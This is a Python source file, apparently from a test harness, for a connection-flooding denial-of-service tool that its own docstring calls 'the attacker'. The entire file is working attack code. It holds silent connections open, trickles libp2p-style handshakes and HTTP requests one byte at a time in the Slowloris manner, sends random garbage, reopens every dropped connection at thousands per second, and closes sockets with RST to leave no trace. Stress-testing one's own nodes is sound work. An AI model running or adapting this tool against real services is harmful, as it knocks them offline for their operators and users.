"""The attacker: connections that never become anything, each opened again as soon as it is closed.

    flooder.py TARGET:PORT --from ADDRESS,... [--silent 400] [--slow 300] [--garbage 30] [--rate 2500]
               [--http HOST:PORT --slow-http 32]

Prints one JSON object a second: connections opened in it, and held at its end, by kind. One process, one epoll: the
machine is to be busy with the victim.
"""

import argparse
import collections
import errno
import heapq
import itertools
import json
import os
import random
import select
import socket
import struct
import time

IP_BIND_ADDRESS_NO_PORT = 24
TRICKLE = 0.5  # seconds between two bytes of a slow connection
CONNECTING = 5.0  # seconds until an unanswered attempt is given up
GARBAGE = 4096  # bytes
BURST = 0.05  # seconds of the rate that may be opened at once
# What a negotiation begins with: the stream protocol, the handshake, a key of 32 bytes.
NEGOTIATION = b"\x13/multistream/1.0.0\n\x07/noise\n" + struct.pack(">H", 32) + bytes(range(32))
HTTP = b"GET /metrics HTTP/1.1\r\nHost: node\r\nX-Padding: " + b"x" * 4000


class Kind:
    """What connections of one sort send, and when."""

    def __init__(self, name, count, target, bytes_at_once, bytes_slowly):
        self.name, self.count, self.target = name, count, target
        self.bytes_at_once, self.bytes_slowly = bytes_at_once, bytes_slowly
        self.held = self.opened = 0  # opened: since the last report


class Connection:
    def __init__(self, kind):
        self.kind, self.sent, self.connected, self.turn = kind, 0, False, 0
        self.socket = None


class Flooder:
    def __init__(self, sources, kinds, rate):
        self._sources, self._kinds, self._rate = itertools.cycle(sources), kinds, rate
        self._epoll, self._open = select.epoll(), {}
        self._waiting = collections.deque(Connection(kind) for kind in kinds for _ in range(kind.count))
        self._clock, self._numbers = [], itertools.count()  # (time, number, connection, its turn then)
        self._allowed, self._counted_at = 0.0, time.monotonic()

    def run(self):
        report_at = time.monotonic() + 1
        while True:
            now = time.monotonic()
            self._open_some(now)
            self._tick(now)
            if now >= report_at:
                self._report()
                report_at += 1
            for descriptor, events in self._epoll.poll(0.002 if self._waiting else 0.02, 512):
                self._happened(self._open[descriptor], events)

    def _report(self):
        print(json.dumps({kind.name: {"opened": kind.opened, "held": kind.held} for kind in self._kinds}), flush=True)
        for kind in self._kinds:
            kind.opened = 0

    def _open_some(self, now):
        self._allowed = min(self._allowed + (now - self._counted_at) * self._rate, self._rate * BURST)
        self._counted_at = now
        while self._waiting and self._allowed >= 1:
            self._allowed -= 1
            self._begin(self._waiting.popleft(), now)

    def _begin(self, connection, now):
        made = connection.socket = socket.socket(socket.AF_INET, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
        made.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
        made.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))  # closed without a trace
        made.bind((next(self._sources), 0))
        connection.kind.opened += 1
        connection.connected, connection.sent = False, 0
        if made.connect_ex(connection.kind.target) not in (0, errno.EINPROGRESS):
            return self._again(connection)
        self._open[made.fileno()] = connection
        self._epoll.register(made.fileno(), select.EPOLLOUT | select.EPOLLIN | select.EPOLLRDHUP)
        self._call(connection, now + CONNECTING)

    def _call(self, connection, when):
        """Looks at the connection again at that time, if it is still the same one then."""
        connection.turn += 1
        heapq.heappush(self._clock, (when, next(self._numbers), connection, connection.turn))

    def _tick(self, now):
        while self._clock and self._clock[0][0] <= now:
            _, _, connection, turn = heapq.heappop(self._clock)
            if turn != connection.turn:
                continue
            if not connection.connected:
                self._again(connection)
            else:
                self._trickle(connection, now)

    def _happened(self, connection, events):
        if events & (select.EPOLLHUP | select.EPOLLERR | select.EPOLLRDHUP):
            return self._again(connection)
        if events & select.EPOLLIN:
            try:
                if not connection.socket.recv(65536):
                    return self._again(connection)
            except BlockingIOError:
                pass
            except OSError:
                return self._again(connection)
        if events & select.EPOLLOUT and not connection.connected:
            self._begun(connection)

    def _begun(self, connection):
        connection.connected = True
        connection.turn += 1
        connection.kind.held += 1
        self._epoll.modify(connection.socket.fileno(), select.EPOLLIN | select.EPOLLRDHUP)
        if connection.kind.bytes_at_once:
            self._send(connection, connection.kind.bytes_at_once())
        elif connection.kind.bytes_slowly:
            self._trickle(connection, time.monotonic())

    def _trickle(self, connection, now):
        """Sends the next byte; at the end it falls silent."""
        content = connection.kind.bytes_slowly
        if connection.sent < len(content) and self._send(connection, content[connection.sent : connection.sent + 1]):
            connection.sent += 1
            self._call(connection, now + TRICKLE * random.uniform(0.5, 1.5))

    def _send(self, connection, content):
        try:
            connection.socket.send(content)
            return True
        except OSError:
            self._again(connection)
            return False

    def _again(self, connection):
        """Closes the connection and puts it in line to be opened again."""
        if connection.socket is None:
            return
        if self._open.pop(connection.socket.fileno(), None):
            self._epoll.unregister(connection.socket.fileno())
        connection.socket.close()
        connection.socket = None
        connection.kind.held -= connection.connected
        connection.turn += 1
        self._waiting.append(connection)


def address(text):
    host, _, port = text.rpartition(":")
    return host, int(port)


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("target", type=address)
    parser.add_argument("--from", dest="sources", type=lambda text: text.split(","), required=True)
    parser.add_argument("--silent", type=int, default=400, help="connections that send nothing")
    parser.add_argument("--slow", type=int, default=300, help="connections that send a handshake byte by byte")
    parser.add_argument("--garbage", type=int, default=30, help="connections that send anything")
    parser.add_argument("--rate", type=float, default=2500, help="openings a second, of all kinds together")
    parser.add_argument("--http", type=address)
    parser.add_argument("--slow-http", type=int, default=32, help="clients that send a request byte by byte")
    options = parser.parse_args()
    kinds = [Kind("silent", options.silent, options.target, None, None),
             Kind("slow", options.slow, options.target, None, NEGOTIATION),
             Kind("garbage", options.garbage, options.target, lambda: os.urandom(GARBAGE), None)]
    if options.http:
        kinds.append(Kind("http", options.slow_http, options.http, None, HTTP))
    Flooder(options.sources, kinds, options.rate).run()


if __name__ == "__main__":
    main()
